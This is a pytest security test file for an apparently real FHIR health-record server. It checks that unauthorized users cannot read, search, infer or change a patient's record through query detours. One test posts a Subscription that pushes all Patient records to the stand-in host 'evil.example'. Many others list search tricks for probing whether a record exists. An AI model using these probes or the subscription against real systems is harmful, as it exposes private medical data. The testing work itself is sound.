"""People who ask for a record that is not theirs to see"""

import json
import re
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import httpx
import pytest

from commonweal.access.agent import Agent
from commonweal.access.scope import Scope
from tests.attackers.conftest import Target

REGISTRY = "http://commonweal.example"
NUMBER = "http://numbers.example"
ROLE_CODES = "http://terminology.hl7.org/CodeSystem/v3-RoleCode"
SCOPES = "http://terminology.hl7.org/CodeSystem/consentscope"
SOMEBODY = {"id": "target-person", "number": "330106TARGET", "name": "Targetfamily", "code": "code-of-target"}
NOBODY = {"id": "nobody-at-all", "number": "330106NOBODY", "name": "Nobodyfamily", "code": "code-of-nobody"}

DOCTOR = Agent("Practitioner/own-doctor", frozenset({"clinician"}), "TREAT", "Organization/clinic")
STRANGER = Agent("Practitioner/strange-doctor", frozenset({"clinician"}), "TREAT", "Organization/hospital")
ATTACKERS = {
    "an officer of another county": Agent(
        "Practitioner/officer", frozenset({"officer"}), "PUBHLTH", areas=frozenset({"Location/county-b"})
    ),
    "a doctor without relationship": STRANGER,
    "a doctor whose relationship has ended": replace(STRANGER, id="Practitioner/past-doctor"),
    "a proxy whose time is over": Agent("Patient/past-proxy", frozenset({"resident"}), "PATRQT"),
    "another resident": Agent("Patient/neighbour", frozenset({"resident"}), "PATRQT"),
    "a partner's system of another organization": Agent(
        "Device/partner", frozenset({"backend"}), "HOPERAT", "Organization/hospital"
    ),
    "an auditor": Agent("Practitioner/auditor", frozenset({"auditor"}), "HCOMPL"),
    "a role that nobody declared": Agent("Practitioner/x", frozenset({"made-up"}), "TREAT"),
}


def patient(id: str, name: str, number: str = "", **more: Any) -> dict[str, Any]:
    identifier = [{"system": NUMBER, "value": number}] if number else []
    named = {"name": [{"family": name}]} | ({"identifier": identifier} if identifier else {})
    return {"resourceType": "Patient", "id": id, **named, **more}


WORLD: list[dict[str, Any]] = [
    {"resourceType": "Location", "id": "county-a", "name": "A"},
    {"resourceType": "Location", "id": "county-b", "name": "B"},
    {"resourceType": "Organization", "id": "clinic", "name": "Clinic"},
    {"resourceType": "Organization", "id": "hospital", "name": "Hospital"},
    *(
        {"resourceType": "Practitioner", "id": each, "active": True}
        for each in ("own-doctor", "strange-doctor", "past-doctor")
    ),
    patient("past-proxy", "Proxy"),
    patient("neighbour", "Neighbour"),
    patient(
        "target-person", "Targetfamily", "330106TARGET",
        generalPractitioner=[{"reference": "Practitioner/own-doctor"}],
    ),
    {
        "resourceType": "Encounter", "id": "target-encounter", "status": "finished", "class": {"code": "AMB"},
        "subject": {"reference": "Patient/target-person"},
        "participant": [{"individual": {"reference": "Practitioner/past-doctor"}}],
        "period": {"start": "2025-10-01T08:00:00Z", "end": "2025-10-01T09:00:00Z"},
    },
    {
        "resourceType": "Consent", "id": "target-consent", "status": "active",
        "scope": {"coding": [{"system": SCOPES, "code": "patient-privacy"}]},
        "category": [{"coding": [{"system": "http://loinc.org", "code": "59284-0"}]}],
        "patient": {"reference": "Patient/target-person"}, "policyRule": {"text": "proxy"},
        "provision": {
            "type": "permit", "period": {"start": "2024-01-01", "end": "2025-12-31"},
            "actor": [
                {
                    "role": {"coding": [{"system": ROLE_CODES, "code": "POWATT"}]},
                    "reference": {"reference": "Patient/past-proxy"},
                }
            ],
        },
    },
    {
        "resourceType": "Observation", "id": "target-observation", "status": "final",
        "code": {"coding": [{"system": "http://x.example", "code": "code-of-target"}]},
        "subject": {"reference": "Patient/target-person"},
    },
]  # fmt: skip

SEARCHES = (
    "/Patient/{id}/_history", "/Patient/{id}/$everything", "/Patient?_id={id}",
    "/Patient?_id={id}&_summary=count", "/Patient?_id={id}&_total=accurate&_count=0", "/Patient?identifier={number}",
    f"/Patient?identifier={NUMBER}|{{number}}", "/Patient?name={name}", "/Patient?family:exact={name}",
    "/Patient?name:contains={name}&_elements=id", "/Patient?_id={id}&_revinclude=Observation:subject",
    "/Observation?subject=Patient/{id}", "/Observation?patient={id}&_summary=count", "/Observation?code={code}",
    "/Observation?patient.identifier={number}", "/Observation?patient.name={name}",
    "/Observation?subject:Patient.family={name}", "/Observation?code={code}&_include=Observation:subject",
    "/Observation?code={code}&_include=*", "/Patient?_has:Observation:patient:code={code}",
    "/Patient?_has:Observation:patient:code={code}&_summary=count", "/Encounter?patient.name={name}",
    "/Organization?_has:Encounter:service-provider:patient.name={name}",
    "/Practitioner?_has:Patient:general-practitioner:name={name}",
    "/Practitioner?_id=own-doctor&_revinclude=Patient:general-practitioner", "/Patient/{id}/Observation",
    "/Patient/{id}/*", "/Consent?patient={id}", "/Patient?_sort=family&name={name}",
    "/Patient?link:missing=true&name={name}",
)  # fmt: skip
READS = (
    "/Patient/{id}",
    "/Patient/{id}/_history/1",
    "/Patient/{id}?_summary=text",
    "/Patient/{id}?_elements=id",
)


async def filled(target: Target) -> None:
    async with target.client(target.token()) as machine:
        for each in WORLD:
            answer = await machine.put(f"/fhir/{each['resourceType']}/{each['id']}", json=each)
            assert answer.status_code == 201, answer.text


def told(answer: httpx.Response, asked: Mapping[str, str]) -> tuple[int, str, bool, bool]:
    """All that an answer tells, with the words of the question taken out."""
    text = answer.text
    for word in sorted(asked.values(), key=len, reverse=True):
        text = text.replace(word, "…")
    text = re.sub(
        r"urn:uuid:[0-9a-f-]+|new-\d+|\"(lastUpdated|timestamp)\":\"[^\"]*\"|\"id\":\"[^\"]*\"", "", text
    )
    return answer.status_code, text, "etag" in answer.headers, "last-modified" in answer.headers


async def alike(target: Target, agent: Agent, method: str, path: str, **more: Any) -> httpx.Response:
    """The answer about somebody, which must tell exactly what it tells about nobody; and its audit row."""
    async with target.client(target.token_of(agent)) as attacker:
        answers = []
        for words in (NOBODY, SOMEBODY):
            content = json.dumps(more["json"]) if "json" in more else None
            sent = {"headers": {k: v.format(**words) for k, v in more.get("headers", {}).items()}}
            sent["headers"] |= {"content-type": more.get("media", "application/fhir+json")} if content else {}
            for name, word in words.items():
                content = content and content.replace(f"<{name}>", word)
            before = len(target.rows())
            answers.append(
                await attacker.request(method, "/fhir" + path.format(**words), content=content, **sent)
            )
            rows = target.rows()[before:]
        nobody, somebody = answers
    assert told(somebody, SOMEBODY) == told(nobody, NOBODY), path
    assert rows and rows[-1].agent == agent.id, f"{path} was not audited"
    return somebody


async def test_the_doctor_of_this_person(target: Target) -> None:
    """The person's own doctor | proves that all of this could be seen | sees it: the refusals below mean something"""
    await filled(target)
    async with target.client(target.token_of(DOCTOR)) as doctor:
        for path in READS:
            answer = await doctor.get("/fhir" + path.format(**SOMEBODY))
            assert answer.status_code == 200, (path, answer.text)
        found = await doctor.get("/fhir/Observation?code=code-of-target&_include=Observation:subject")
        assert len(found.json()["entry"]) == 2


@pytest.mark.parametrize("who", ATTACKERS)
async def test_a_read_of_somebody_elses_record(target: Target, who: str) -> None:
    """An officer of another county, a doctor without relationship or after it, a proxy whose time is over, a \
    neighbour, a partner, an auditor | reads the record, its versions, parts of it | is told what they are told of \
    somebody who does not exist; audited"""
    await filled(target)
    for path in READS:
        assert (await alike(target, ATTACKERS[who], "GET", path)).status_code in (403, 404)
        await alike(target, ATTACKERS[who], "HEAD", path)
        for header in ("If-None-Match", "If-Match"):
            await alike(target, ATTACKERS[who], "GET", path, headers={header: 'W/"1"'})
        past = {"If-Modified-Since": "Fri, 01 Jan 2100 00:00:00 GMT"}
        await alike(target, ATTACKERS[who], "GET", path, headers=past)


@pytest.mark.parametrize("who", ATTACKERS)
async def test_a_detour_to_somebody_elses_record(target: Target, who: str) -> None:
    """The same | search, count, chain, `_has`, `_include`, `_revinclude`, compartments, `$everything`, histories | \
    find exactly what there would be without that person; audited"""
    await filled(target)
    for path in SEARCHES:
        answer = await alike(target, ATTACKERS[who], "GET", path)
        assert "target-" not in answer.text.replace(SOMEBODY["id"], ""), path
    async with target.client(target.token_of(ATTACKERS[who])) as attacker:
        for path in (
            "/fhir/_history",
            "/fhir/Patient/_history",
            "/fhir/Observation/_history",
            "/fhir/Patient",
        ):
            answer = await attacker.get(path)
            assert "target-" not in answer.text and "Targetfamily" not in answer.text, path


WRITES: list[tuple[str, str, dict[str, Any]]] = [
    ("PUT", "/Patient/{id}", {"json": patient("<id>", "Changed")}),
    ("PUT", "/Patient/{id}", {"json": patient("<id>", "Changed"), "headers": {"If-Match": 'W/"1"'}}),
    ("DELETE", "/Patient/{id}", {}),
    (
        "PATCH", "/Patient/{id}",
        {"json": [{"op": "add", "path": "/active", "value": True}], "media": "application/json-patch+json"},
    ),
    ("PUT", f"/Patient?identifier={NUMBER}|{{number}}", {"json": patient("x", "Changed")}),
    ("DELETE", f"/Patient?identifier={NUMBER}|{{number}}", {}),
    (
        "POST", "/Observation",
        {"json": {
            "resourceType": "Observation", "status": "final", "code": {"text": "x"},
            "subject": {"reference": "Patient/<id>"},
        }},
    ),
    (
        "POST", "/Encounter",
        {"json": {
            "resourceType": "Encounter", "status": "in-progress", "class": {"code": "AMB"},
            "subject": {"reference": "Patient/<id>"},
            "participant": [{"individual": {"reference": "Practitioner/strange-doctor"}}],
        }},
    ),
    (
        "POST", "/",
        {"json": {
            "resourceType": "Bundle", "type": "batch",
            "entry": [{"request": {"method": "GET", "url": "Patient/<id>"}}],
        }},
    ),
]  # fmt: skip


@pytest.mark.parametrize("who", ATTACKERS)
async def test_a_write_to_somebody_elses_record(target: Target, who: str) -> None:
    """The same | change, delete, write about the person, make themselves their doctor by an encounter | are \
    refused in the same words as for nobody; nothing has changed, and still they see nothing; audited"""
    await filled(target)
    before = await about(target)
    for method, path, more in WRITES:
        answer = await alike(target, ATTACKERS[who], method, path, **more)
        if (
            more.get("json", {})
            and isinstance(more["json"], dict)
            and more["json"]["resourceType"] == "Bundle"
        ):
            statuses = [each["response"]["status"][:3] for each in answer.json()["entry"]]
            assert statuses in (["403"], ["404"]), answer.text
        elif not (method == "DELETE" and "?" in path):
            assert answer.status_code in (400, 403, 404, 412), (method, path, answer.text)
    assert (await alike(target, ATTACKERS[who], "GET", "/Patient/{id}")).status_code in (403, 404)
    assert await about(target) == before


async def about(target: Target) -> tuple[str, int]:
    """The version of the person, and how much there is about them."""
    async with target.client(target.token()) as operator:
        person = (await operator.get("/fhir/Patient/target-person")).json()
        count = (await operator.get("/fhir/Patient/target-person/*?_summary=count")).json()["total"]
    return person["meta"]["versionId"], count


async def test_an_app_with_fewer_scopes_than_it_asks(target: Target) -> None:
    """An app of the person's own doctor with the scope `user/Patient.rs` | asks for observations by search, chain, \
    `_include`, `_revinclude`, `_has` and `$everything` | gets nothing beyond its scope; audited"""
    await filled(target)
    scope = Scope("user", "Patient", frozenset("rs"))
    app = replace(DOCTOR, client="app-1", scopes=(scope,))
    async with target.client(target.token_of(app)) as client:
        assert (await client.get("/fhir/Patient/target-person")).status_code == 200
        for path in (
            "/Observation/target-observation", "/Observation?code=code-of-target",
            "/Patient?_id=target-person&_revinclude=Observation:subject", "/Patient/target-person/$everything",
            "/Patient?_has:Observation:patient:code=code-of-target",
            "/Observation?patient=target-person&_summary=count",
            "/Patient/target-person/Observation", "/Observation/_history", "/_history",
        ):  # fmt: skip
            answer = await client.get("/fhir" + path)
            assert "target-observation" not in answer.text, path
            if answer.status_code == 200 and answer.json().get("type") == "searchset":
                entries = answer.json().get("entry", [])
                kinds = {each["resource"]["resourceType"] for each in entries}
                assert kinds <= {"Patient", "OperationOutcome"}, path
                if "_has" in path or "_summary" in path:
                    assert answer.json().get("total", 0) == 0 and "Patient" not in kinds, path
            else:
                assert answer.status_code in (200, 403, 404), (path, answer.text)
        changed = await client.put("/fhir/Patient/target-person", json=patient("target-person", "Changed"))
        assert changed.status_code in (403, 404)
    assert target.rows()[-1].client == "app-1" or target.rows()[-1].agent == DOCTOR.id


async def test_an_epidemiologist_who_guesses_names(target: Target) -> None:
    """An epidemiologist, who sees cases without names | reads, searches by name, sorts by it, asks for it as an \
    element, by chain | the name is in no answer, and no question by it is answered"""
    await filled(target)
    async with target.client(target.token()) as operator:
        lives = {
            "url": f"{REGISTRY}/StructureDefinition/lives-in",
            "valueReference": {"reference": "Location/county-a"},
        }
        person = patient("target-person", "Targetfamily", "330106TARGET", extension=[lives])
        assert (await operator.put("/fhir/Patient/target-person", json=person)).is_success
    agent = Agent(
        "Practitioner/epi", frozenset({"epidemiologist"}), "PUBHLTH", areas=frozenset({"Location/county-a"})
    )
    async with target.client(target.token_of(agent)) as guesser:
        for path in (
            "/Patient/target-person", "/Patient", "/Patient?_elements=name,identifier", "/Patient?_summary=true",
            "/Patient/target-person/_history", "/Patient?_id=target-person&_revinclude=*",
        ):  # fmt: skip
            answer = await guesser.get("/fhir" + path)
            assert "Targetfamily" not in answer.text and "330106TARGET" not in answer.text, path
        for words in (SOMEBODY, NOBODY):
            for path in (
                "/Patient?name={name}", "/Patient?family={name}", "/Patient?identifier={number}", "/Patient?_sort=name",
                "/Observation?patient.name={name}", "/Patient?_sort=family", "/Patient?family:missing=false",
                "/Patient?phonetic={name}", "/Patient?_content={name}", "/Patient?_text={name}",
            ):  # fmt: skip
                answer = await guesser.get("/fhir" + path.format(**words))
                found = answer.json().get("entry", []) if answer.status_code == 200 else []
                kinds = [each for each in found if each["resource"]["resourceType"] != "OperationOutcome"]
                assert answer.status_code in (400, 403) or not kinds, (path, answer.text[:300])


async def test_a_detour_that_does_not_exist(target: Target) -> None:
    """Anybody with a token | asks by GraphQL, by the address of another version, by a subscription to everything | \
    404: there is no such door"""
    await filled(target)
    async with target.client(target.token_of(STRANGER)) as stranger:
        for path in (
            "/$graphql?query={Patient(id:target-person){id}}",
            "/R4/Patient/target-person",
            "/Patient/$all",
        ):
            answer = await stranger.get("/fhir" + path)
            assert answer.status_code == 404 and "Targetfamily" not in answer.text, path
        wish = {
            "resourceType": "Subscription", "status": "requested", "reason": "x", "criteria": "Patient?",
            "channel": {"type": "rest-hook", "endpoint": "https://evil.example"},
        }  # fmt: skip
        assert (await stranger.post("/fhir/Subscription", json=wish)).status_code == 403


async def test_somebody_unknown(target: Target) -> None:
    """Somebody who has not signed in | asks for anything about anybody | 401, the same for all"""
    await filled(target)
    async with target.client() as nobody:
        answers = [
            await nobody.get("/fhir" + path.format(**words))
            for path in (*READS, *SEARCHES)
            for words in (SOMEBODY, NOBODY)
        ]
    assert {each.status_code for each in answers} == {401}
    assert len({told(each, SOMEBODY | NOBODY)[1] for each in answers}) == 1
